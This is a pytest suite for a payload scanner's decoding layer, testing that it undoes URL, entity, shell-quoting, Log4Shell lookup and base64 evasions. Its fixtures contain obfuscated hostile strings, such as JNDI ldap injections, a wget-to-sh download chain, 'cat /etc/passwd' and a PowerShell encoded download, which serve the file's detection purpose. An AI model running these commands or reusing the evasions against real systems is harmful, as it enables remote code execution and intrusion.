"""Decoding views: each evasion is undone, composed chains still decode, every step is bounded."""

from __future__ import annotations

import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dropscan.decode import (
    MAX_FIELD,
    b64_texts,
    cmd_normalise,
    decode_b64,
    resolve_lookups,
    url_decode,
    views,
)


@pytest.mark.parametrize(
    ("raw", "want"),
    [
        ("wget%20http%3A%2F%2Fh%2Fx", "wget http://h/x"),
        ("%2577%2567%2565%2574", "wget"),  # double
        ("%252577get", "wget"),  # triple
        ("%u0077get", "wget"),
        ("w%00get", "wget"),
        ("&#119;get&#x20;x", "wget x"),
        ("%26%23119%3Bget", "wget"),  # entity hidden under percent-encoding
        ("cd+/tmp;ls", "cd /tmp;ls"),
        ("1%2B1", "1+1"),
        ("\\u002524%7Bjndi", "${jndi"),  # JSON escape of a percent-encoding
        ("$\\u0026lbrace;jndi:", "${jndi:"),  # JSON escape of a named entity
        ("&#x24;&#000000000000000123;jndi:", "${jndi:"),  # zero-padded numeric entity
        ("%24&lcub;\\u006A&#110;di:", "${jndi:"),  # three layers mixed
    ],
)
def test_url_decode(raw, want):
    assert url_decode(raw) == want


@pytest.mark.parametrize(
    ("raw", "want"),
    [
        ("w'g'et http://h/x", "wget http://h/x"),
        ('w"g"e"t', "wget"),
        ("w\\get", "wget"),
        ("wget${IFS}http://h/x", "wget http://h/x"),
        ("wget$IFS$9http://h/x", "wget http://h/x"),
        ("wget${IFS%??}http://h/x", "wget http://h/x"),
        ("{wget,http://h/x}", "wget http://h/x"),
        ("$'\\x77\\x67\\x65\\x74' h", "wget h"),
        ("printf '\\167\\147\\145\\164'", "printf wget"),
        ("w$@get", "wget"),
        ("p^o^w^e^r^s^h^e^l^l", "powershell"),
        ("a\tb   c", "a b c"),
        ("{l,-lh}s", "ls -lhs"),  # bash distributes the word around a brace list
        ("c{a,oun}t", "cat count"),
        ("x={ls,-la}", "x=ls -la"),  # but not across '=' (the parameter syntax)
        ("c$?at /et$!c/passwd", "cat /etc/passwd"),
        ("$_GET[x]", "$_GET[x]"),  # PHP superglobals are not shell expansions
        ("a; id | sh && ls", "a;id |sh &&ls"),  # no whitespace after a separator
        ("a & id", "a & id"),  # ...but a lone '&' keeps it (query strings)
        ("$(printf '\\167\\147\\145\\164') http://h/x", "wget http://h/x"),
        ("`echo wget` http://h/x", "wget http://h/x"),
        ("\\n/bin/ls -al\\n", "\n/bin/ls -al\n"),  # \n outside a word is a line break
        ("w\\ge\\t h", "wget h"),  # inside a word the backslash quotes a letter
    ],
)
def test_cmd_normalise(raw, want):
    assert cmd_normalise(raw) == want


@pytest.mark.parametrize(
    ("raw", "want"),
    [
        ("${${lower:j}ndi:ldap://h/a}", "${jndi:ldap://h/a}"),
        ("${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://h/o}", "${jndi:rmi://h/o}"),
        ("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//h/b}", "${jndi:ldap://h/b}"),
        ("${${upper:j}ndi:ldap://h/a}", "${jndi:ldap://h/a}"),
        ("${${date:'j'}ndi:dns://h}", "${jndi:dns://h}"),
        ("${jndi:ldap://${env:USER}.h.example/a}", "${jndi:ldap://.h.example/a}"),
        ("${REMOVED_DEVICES}", ""),
        ("${unclosed", "${unclosed"),
        ("${${base64:JHtqbmRpOmxkYXA6YWRkcn0=}}", "${jndi:ldap:addr}"),  # a lookup's value is a lookup
        ("${jn${base64:ZGk=}:ldap://h}", "${jndi:ldap://h}"),  # two-letter base64 value
    ],
)
def test_resolve_lookups(raw, want):
    assert resolve_lookups(raw) == want


def test_composed_chain_decodes():
    # double percent-encoding + quotes + ${IFS}
    raw = "%2577%2527g%2527et%2524%257BIFS%257Dhttp%253A%252F%252F198.51.100.2%252Fa"
    names = {v.name: v.text for v in views(raw)}
    assert names["cmd"] == "wget http://198.51.100.2/a"


def test_base64_only_next_to_a_decoder_and_only_when_printable():
    assert b64_texts("echo d2dldCBodHRwOi8vMTkyLjAuMi4xL3ggLU8gLXxzaA== | base64 -d | sh") == [
        "wget http://192.0.2.1/x -O -|sh"
    ]
    assert b64_texts("token=d2dldCBodHRwOi8vMTkyLjAuMi4xL3ggLU8gLXxzaA==") == []  # no decoder named
    assert decode_b64("AAECAwQFBgcICQoLDA0ODw==") is None  # binary
    ps = "powershell -enc " + "aQB3AHIAIABoAHQAdABwADoALwAvAGgALwB4AA=="
    assert b64_texts(ps) == ["iwr http://h/x"]  # UTF-16LE, as PowerShell -enc


def test_base64_brace_form_is_decoded_then_scanned():
    raw = "bash -c {echo,d2dldCBodHRwOi8vMTkyLjAuMi4xL3g=}|{base64,-d}|{bash,-i}"
    vs = views(raw)
    assert ("base64", "wget http://192.0.2.1/x") in [(v.name, v.text) for v in vs]


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(
    st.text(
        alphabet=st.sampled_from(list("%25uU0123456789abcdefABCDEF+&#;x{}$:-'\"\\`IFSjndi lowerupper,()=/")),
        max_size=200,
    )
)
def test_views_never_raise_and_stay_bounded(text):
    vs = views(text)
    assert vs[0].name == "url"
    for v in vs:
        assert isinstance(v.text, str)
        assert len(v.text) <= 8 * max(len(text), 16)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_views_never_raise_on_any_text(text):
    views(text)


@given(st.text(max_size=100))
def test_url_decode_reaches_a_fixed_point_or_its_cap(text):
    once = url_decode(text)
    # percent-decoding a fixed point again changes nothing except a literal '+' (form encoding)
    assert url_decode(once.replace("+", "%2B")) == once or "%" in once or "&" in once


def test_bounded_work_on_hostile_fields():
    t0 = time.perf_counter()
    views("%25" * 200_000)
    views("${" * 50_000 + "jndi:ldap://h/a" + "}" * 50_000)
    views("{a," * 30_000)
    views("\\x" * 100_000)
    views("echo " + "QUFB" * 100_000 + " | base64 -d")
    assert time.perf_counter() - t0 < 10
    assert len(views("a" * (MAX_FIELD * 3))[0].text) == MAX_FIELD
